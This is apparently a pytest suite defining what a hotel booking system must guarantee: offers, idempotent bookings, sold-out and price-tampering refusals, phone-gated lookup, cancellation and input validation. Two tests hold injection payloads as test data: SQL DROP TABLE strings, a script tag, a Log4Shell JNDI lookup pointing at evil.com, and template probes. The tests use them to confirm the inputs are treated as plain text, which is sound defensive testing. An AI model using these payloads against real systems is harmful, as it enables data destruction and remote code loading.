"""What the conversation may count on, whatever PMS the hotel has."""

from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal

import pytest

from pms.errors import NotFound, PmsRejected, SoldOut, WrongState
from pms.types import GuestDetails, Money, Stay
from tests.pms.factories import TODAY

ANA = GuestDetails("Ana Gómez", "+34600112233", "ana@example.com", "es")
EVA = GuestDetails("Eva Ruiz", "+34600999888")
TWO = Stay(date(2026, 3, 10), date(2026, 3, 12), adults=2)  # Tuesday to Thursday
LATER = TWO.moved(2)


def offer(pms, code="double", stay=TWO):
    return next(offer for offer in pms.offers(stay) if offer.room_type == code)


def fill(pms, code="double", stay=TWO):
    """Book every room of the type; keys are told apart by stay and count."""
    for left in range(offer(pms, code, stay).free):
        pms.book(offer(pms, code, stay), EVA, key=f"fill-{code}-{stay.arrival}-{left}")


def test_room_kinds_come_cheapest_first(pms):
    kinds = pms.room_kinds()

    assert [kind.code for kind in kinds] == ["single", "double", "suite"]
    assert kinds[0].nightly == Money(Decimal("60.00"), "EUR")
    assert (kinds[1].names["en"], kinds[1].capacity) == ("Room double", 2)


def test_offers_come_cheapest_first_with_a_price_for_every_night(pms):
    offers = pms.offers(replace(TWO, adults=1))

    assert [(o.room_type, o.total.amount, o.free) for o in offers] == [
        ("single", Decimal("120.00"), 2),
        ("double", Decimal("200.00"), 3),
        ("suite", Decimal("500.00"), 1),
    ]
    assert [night.day for night in offers[0].nights] == [date(2026, 3, 10), date(2026, 3, 11)]


@pytest.mark.parametrize(
    ("adults", "children", "expected"),
    [
        (2, 0, ["double", "suite"]),
        (2, 1, ["suite"]),
        (1, 1, ["double", "suite"]),
        (5, 0, []),
        (1000, 0, []),
    ],
)
def test_offers_are_large_enough(pms, adults, children, expected):
    stay = replace(TWO, adults=adults, children=children)

    assert [o.room_type for o in pms.offers(stay)] == expected


def test_a_booked_room_is_no_longer_offered_for_a_night_of_the_stay(pms):
    pms.book(offer(pms), ANA, key="k1")

    assert offer(pms, stay=TWO.moved(1)).free == 2
    assert offer(pms, stay=TWO.moved(-1)).free == 2


def test_stays_back_to_back_fit_in_the_same_rooms(pms):
    fill(pms)

    assert offer(pms, stay=TWO.moved(2)).free == 3
    assert offer(pms, stay=TWO.moved(-2)).free == 3


def test_what_is_sold_out_is_not_offered(pms):
    fill(pms)

    assert [o.room_type for o in pms.offers(TWO)] == ["suite"]


def test_book_holds_a_room_at_the_price_of_the_offer(pms):
    booking = pms.book(offer(pms), ANA, key="k1")

    assert (booking.status, booking.room_type, booking.stay) == ("pre_reserved", "double", TWO)
    assert (booking.guest_name, booking.guest_phone) == ("Ana Gómez", "+34600112233")
    assert (str(booking.total), str(booking.deposit)) == ("200.00 EUR", "60.00 EUR")
    assert booking.hold_expires_at is not None
    assert booking.hold_expires_at.utcoffset() is not None


def test_the_same_key_books_once(pms):
    first = pms.book(offer(pms), ANA, key="k1")

    assert pms.book(offer(pms), ANA, key="k1") == first
    assert offer(pms).free == 2


def test_the_same_key_finds_the_booking_even_when_nothing_is_left(pms):
    wanted = offer(pms, "suite")
    first = pms.book(wanted, ANA, key="k1")

    assert pms.book(wanted, ANA, key="k1") == first


def test_another_key_is_another_booking(pms):
    assert pms.book(offer(pms), ANA, key="k1").code != pms.book(offer(pms), ANA, key="k2").code


def test_booked_finds_by_key_and_says_none_for_an_unknown_one(pms):
    booking = pms.book(offer(pms), ANA, key="k1")

    assert pms.booked("k1") == booking
    assert pms.booked("k2") is None


def test_the_last_room_is_sold_once(pms):
    wanted = offer(pms, "suite")
    pms.book(wanted, ANA, key="k1")

    with pytest.raises(SoldOut):
        pms.book(wanted, EVA, key="k2")


def test_a_booking_at_another_price_than_the_hotels_is_refused(pms):
    wanted = offer(pms)
    cheap = replace(
        wanted, nights=tuple(replace(n, price=Money(Decimal(1), "EUR")) for n in wanted.nights)
    )

    with pytest.raises(PmsRejected) as refusal:
        pms.book(cheap, ANA, key="k1")

    assert not isinstance(refusal.value, SoldOut)
    assert offer(pms).free == 3


def test_more_guests_than_the_room_takes_are_refused(pms):
    wanted = offer(pms)

    with pytest.raises(PmsRejected):
        pms.book(replace(wanted, stay=replace(TWO, adults=3)), ANA, key="k1")


def test_a_room_type_that_does_not_exist_is_refused(pms):
    with pytest.raises(PmsRejected):
        pms.book(replace(offer(pms), room_type="helipad"), ANA, key="k1")


@pytest.mark.parametrize("days", [-1, 366])
def test_a_stay_in_the_past_or_too_far_ahead_is_refused(pms, days):
    stay = Stay(TODAY + timedelta(days), TODAY + timedelta(days + 2), 2)

    for ask in (pms.offers, pms.nearest):
        with pytest.raises(PmsRejected):
            ask(stay)
    with pytest.raises(PmsRejected):
        pms.book(replace(offer(pms), stay=stay), ANA, key="k1")


@pytest.mark.parametrize("days", [0, 365])
def test_a_stay_from_today_and_in_a_year_is_offered(pms, days):
    assert pms.offers(Stay(TODAY + timedelta(days), TODAY + timedelta(days + 2), 2))


def test_nearest_finds_the_next_stays_before_and_after(pms):
    big = replace(TWO, adults=4)
    fill(pms, "suite", big)
    fill(pms, "suite", big.moved(2))

    assert list(pms.nearest(big)) == [big.moved(-2), big.moved(4)]


def test_nearest_is_never_in_the_past(pms):
    today = Stay(TODAY, TODAY + timedelta(3), adults=4)
    fill(pms, "suite", today)

    assert list(pms.nearest(today)) == [today.moved(3)]


def test_nearest_is_within_thirty_days(pms):
    long = Stay(TODAY, TODAY + timedelta(30), adults=4)
    fill(pms, "suite", long)
    fill(pms, "suite", replace(long.moved(30), departure=TODAY + timedelta(31)))

    assert list(pms.nearest(long)) == []


def test_nearest_keeps_to_rooms_that_are_large_enough(pms):
    assert list(pms.nearest(replace(TWO, adults=5))) == []
    assert len(pms.nearest(TWO)) == 2


def test_a_booking_is_found_by_its_code_in_any_case(pms):
    booking = pms.book(offer(pms), ANA, key="k1")

    assert pms.booking(f" {booking.code.lower()} ", phone="34 600 11-22-33") == booking


@pytest.mark.parametrize("phone", ["+34600999888", "", "nobody", "+3460011223"])
def test_a_code_says_nothing_to_another_phone(pms, phone):
    booking = pms.book(offer(pms), ANA, key="k1")

    for ask in (pms.booking, pms.cancel):
        with pytest.raises(NotFound):
            ask(booking.code, phone=phone)
    assert pms.booking(booking.code, phone=ANA.phone).status == "pre_reserved"


@pytest.mark.parametrize("phone", ["", "nobody", "+34600112233"])
def test_a_booking_without_a_phone_is_nobodys(pms, phone):
    booking = pms.book(offer(pms), replace(ANA, phone=""), key="k1")

    assert list(pms.bookings_of(phone)) == []
    for ask in (pms.booking, pms.cancel):
        with pytest.raises(NotFound):
            ask(booking.code, phone=phone)


@pytest.mark.parametrize("code", ["RES-00000000", "", "'; DROP TABLE x; --", "x" * 500])
def test_an_unknown_code_is_not_found(pms, code):
    with pytest.raises(NotFound):
        pms.booking(code, phone=ANA.phone)


def test_bookings_of_a_phone_come_soonest_first_without_what_is_cancelled(pms):
    later = pms.book(offer(pms, stay=LATER), ANA, key="k1")
    sooner = pms.book(offer(pms), ANA, key="k2")
    gone = pms.book(offer(pms), ANA, key="k3")
    pms.cancel(gone.code, phone=ANA.phone)
    pms.book(offer(pms), EVA, key="k4")

    assert list(pms.bookings_of("34600112233")) == [sooner, later]


def test_cancel_frees_the_room(pms):
    booking = pms.book(offer(pms, "suite"), ANA, key="k1")

    cancelled = pms.cancel(booking.code, phone=ANA.phone)

    assert (cancelled.status, cancelled.hold_expires_at) == ("cancelled", None)
    assert offer(pms, "suite").free == 1


def test_cancel_twice_is_refused(pms):
    booking = pms.book(offer(pms), ANA, key="k1")
    pms.cancel(booking.code, phone=ANA.phone)

    with pytest.raises(WrongState):
        pms.cancel(booking.code, phone=ANA.phone)


@pytest.mark.parametrize(
    "name",
    [
        "Robert'); DROP TABLE reservations; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.com/a}",
        "{{ 7*7 }} %s %(x)s",
    ],
)
def test_names_are_text(pms, name):
    code = pms.book(offer(pms), replace(ANA, name=name), key="k1").code

    assert pms.booking(code, phone=ANA.phone).guest_name == name


@pytest.mark.parametrize(
    "guest",
    [
        replace(ANA, name="A\x00na"),
        replace(ANA, email="a" * 300 + "@example.com"),
        replace(ANA, phone="+" + "1" * 21),
    ],
)
def test_values_that_cannot_be_kept_are_refused(pms, guest):
    with pytest.raises(PmsRejected):
        pms.book(offer(pms), guest, key="k1")

    assert offer(pms).free == 3
